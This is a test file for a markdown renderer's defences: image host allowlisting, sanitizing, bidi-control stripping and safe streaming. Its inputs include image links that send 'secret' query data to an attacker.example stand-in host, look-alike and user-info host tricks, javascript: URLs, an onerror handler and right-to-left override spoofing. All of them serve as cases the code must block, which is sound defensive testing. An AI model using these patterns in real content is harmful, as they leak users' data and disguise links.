import { JSDOM } from 'jsdom'
import { describe, expect, it } from 'vitest'
import { createMarkdownEngine } from '../../src/lib/markdown/engine'
import { createMarkdownRenderer } from '../../src/lib/markdown/render'
import { repairMarkdown } from '../../src/lib/markdown/repair'
import { createSanitizer } from '../../src/lib/markdown/sanitize'
import { describeLink, isAllowedImage, normalizeImageHosts, stripInvisible } from '../../src/lib/markdown/urls'
import { streamingSetup } from '../fixtures/markdown/harness'
import { domViolations } from '../fixtures/markdown/violations'

const { window } = new JSDOM('')
const A = 'rel="noopener noreferrer nofollow ugc" target="_blank" referrerpolicy="no-referrer"'
const HOSTS = ['img.example', '*.cdn.example', 'localhost']
const { render } = createMarkdownRenderer({ engine: createMarkdownEngine({ window, images: { allowedHosts: HOSTS, placeholderTitle: host => `Load from ${host}` } }) })
const { render: renderPlain } = createMarkdownRenderer({ window })

describe('images from allowlisted hosts', () => {
  it.each([
    ['listed host', '![chart](https://img.example/c.png)', '<p><img src="https://img.example/c.png" alt="chart" class="md-image-loaded" referrerpolicy="no-referrer"></p>\n'],
    ['subdomain under a wildcard', '![a](https://x.cdn.example/a.png "t")', '<p><img src="https://x.cdn.example/a.png" alt="a" title="t" class="md-image-loaded" referrerpolicy="no-referrer"></p>\n'],
    ['plain http and a port', '![](http://localhost:8080/a.svg)', '<p><img src="http://localhost:8080/a.svg" alt="" class="md-image-loaded" referrerpolicy="no-referrer"></p>\n'],
    ['inside a link', '[![b](https://img.example/b.png)](https://l.example/)', `<p><a href="https://l.example/" ${A}><img src="https://img.example/b.png" alt="b" class="md-image-loaded" referrerpolicy="no-referrer"></a></p>\n`],
  ])('%s loads at once', (_name, markdown, html) => {
    expect(render(markdown)).toBe(html)
  })

  it.each([
    ['another host', '![x](https://attacker.example/?q=secret)', 'attacker.example'],
    ['the wildcard\'s parent itself', '![x](https://cdn.example/a.png)', 'cdn.example'],
    ['a look-alike suffix', '![x](https://img.example.attacker.example/a.png)', 'img.example.attacker.example'],
    ['a listed name as user info', '![x](https://img.example@attacker.example/a.png)', 'attacker.example'],
  ])('%s waits for a click, named in the placeholder', (_name, markdown, host) => {
    const html = render(markdown)
    expect(html).not.toContain('<img')
    expect(html).toContain(`<span class="md-image-host">${host}</span>`)
    expect(html).toContain(`title="Load from ${host}"`)
  })

  it('never loads data:, javascript: or relative images, listed or not', () => {
    for (const markdown of ['![x](data:image/png;base64,AAAA)', '![x](javascript:alert(1))', '![x](/img.example/a.png)', '![x](//img.example/a.png)'])
      expect(render(markdown)).toBe('<p>🖼 x</p>\n')
  })

  it('without an allowlist shows every image as a placeholder', () => {
    expect(renderPlain('![chart](https://img.example/c.png)')).not.toContain('<img')
  })

  it('the sanitizer drops any <img> not from a listed host, whatever produced it', () => {
    const sanitize = createSanitizer(window, { imageHosts: ['img.example'] })
    expect(sanitize('<img src="https://img.example/a.png" onerror="x()"><img src="https://other.example/b.png"><img src="data:image/png;base64,AA"><img alt="no src">'))
      .toBe('<img src="https://img.example/a.png" referrerpolicy="no-referrer">')
    expect(sanitize('<span data-src="javascript:alert(1)" data-x="1">a</span><span data-src="https://a.example/">b</span>'))
      .toBe('<span>a</span><span data-src="https://a.example/">b</span>')
  })
})

describe('bidi controls and tag characters', () => {
  it('are removed from link texts, destinations and titles, also when written as references', () => {
    expect(render('[\u202Egnp.exe](https://example.com/\u202Ex "ti\u2066tle")')).toBe(`<p><a href="https://example.com/x" title="title" ${A}>gnp.exe</a></p>\n`)
    expect(render('[a&#x202E;b&rlm;c *d\u200Fe* `f\u2067g`](https://ex&#x202E;ample.com/)')).toBe(`<p><a href="https://example.com/" ${A}>abc <em>de</em> <code>fg</code></a></p>\n`)
    expect(render('<https://example.com/\u{E0041}x>')).toBe(`<p><a href="https://example.com/x" ${A}>https://example.com/x</a></p>\n`)
  })

  it('are removed from image addresses and alt texts', () => {
    expect(render('![al\u202Et&#x2066;](https://img.exa\u061Cmple/a.png)')).toBe('<p><img src="https://img.example/a.png" alt="alt" class="md-image-loaded" referrerpolicy="no-referrer"></p>\n')
  })

  it('stay in ordinary text, where right-to-left writing needs them', () => {
    expect(render('שלום\u200F abc')).toBe('<p>שלום\u200F abc</p>\n')
  })

  it('stripInvisible removes each of them and nothing else', () => {
    const invisible = '\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F\u061C\u{E0000}\u{E0041}\u{E007F}'
    expect(stripInvisible(`a${invisible}b\u200Bc`)).toBe('ab\u200Bc')
  })
})

describe('image host allowlist entries', () => {
  it('normalizes hosts, wildcards and pasted URLs to punycode host names', () => {
    expect(normalizeImageHosts([' Img.Example ', '*.CDN.example', 'https://bücher.example/path', 'img.example', '', 'not a host!', 'http://[::1]/', '*.']))
      .toEqual(['img.example', '*.cdn.example', 'xn--bcher-kva.example'])
  })

  it('matches exact names, and subdomains only under a wildcard', () => {
    const hosts = normalizeImageHosts(['a.example', '*.b.example'])
    expect(isAllowedImage(new URL('https://a.example/x'), hosts)).toBe(true)
    expect(isAllowedImage(new URL('https://sub.a.example/x'), hosts)).toBe(false)
    expect(isAllowedImage(new URL('https://x.y.b.example/x'), hosts)).toBe(true)
    expect(isAllowedImage(new URL('https://b.example/x'), hosts)).toBe(false)
    expect(isAllowedImage(new URL('https://evilb.example/x'), hosts)).toBe(false)
  })
})

describe('describeLink, for the confirmation before leaving', () => {
  it.each([
    ['https://bücher.example/a b', { href: 'https://xn--bcher-kva.example/a%20b', host: 'xn--bcher-kva.example', mailto: false }],
    ['http://example.com:8080/\u202Ex', { href: 'http://example.com:8080/x', host: 'example.com:8080', mailto: false }],
    ['mailto:a@example.com?subject=hi', { href: 'mailto:a@example.com?subject=hi', host: 'a@example.com', mailto: true }],
    ['javascript:alert(1)', null],
    ['/relative', null],
  ])('%j', (href, expected) => {
    expect(describeLink(href)).toEqual(expected)
  })
})

describe('streaming never emits an unfinished image', () => {
  const cases = [
    'Look: ![chart](https://img.example/c.png?q=1) and ![x](https://a.cdn.example/p.png "title")\n\nmore ![](https://attacker.example/?q=secret) end',
    '![ref][img] and ![other][o]\n\nmiddle\n\n[img]: https://img.example/r.png?secret=abc\n[o]: <https://img.example/o.png> "t"\n\nafter',
    '> quoted ![q](https://img.example/q.png)\n\n- item ![l](https://img.example/l.png)\n- [![in link](https://img.example/b.png)](https://l.example/)',
  ]

  it.each(cases.map(markdown => [markdown]))('%j: each prefix equals its repaired full render, every <img> is complete', (markdown) => {
    const complete = new Set(Array.from(markdown.matchAll(/https:\/\/[^\s)>"]+/g), match => new URL(match[0]).href))
    const { streaming, container, shown, full, window: own } = streamingSetup({ images: { allowedHosts: HOSTS } })
    const problems: string[] = []
    let prefix = ''
    for (const char of markdown) {
      prefix += char
      streaming.append(char)
      streaming.flush()
      if (container.innerHTML !== shown(prefix))
        problems.push(`${JSON.stringify(prefix)}: differs from the full render`)
      for (const image of container.querySelectorAll('img')) {
        if (!complete.has(image.src))
          problems.push(`${JSON.stringify(prefix)}: <img src=${image.src}>`)
      }
      problems.push(...domViolations(container, ['img.example', 'a.cdn.example']).map(found => `${JSON.stringify(prefix)}: ${found}`))
    }
    streaming.finish()
    expect(problems).toEqual([])
    expect(container.innerHTML).toBe(full(markdown))
    expect(container.querySelectorAll('img').length).toBeGreaterThan(0)
    own.close()
  })

  it('holds back a reference definition until its line is complete', () => {
    const engine = createMarkdownEngine({ window })
    const markdown = '![x][i]\n\n[i]: https://img.example/a?q=sec'
    expect(repairMarkdown(markdown, engine.lex(markdown).at(-1))).toBe('![x][i]\n\n')
    const done = `${markdown}\n`
    expect(repairMarkdown(done, engine.lex(done).at(-1))).toBe(done)
  })
})
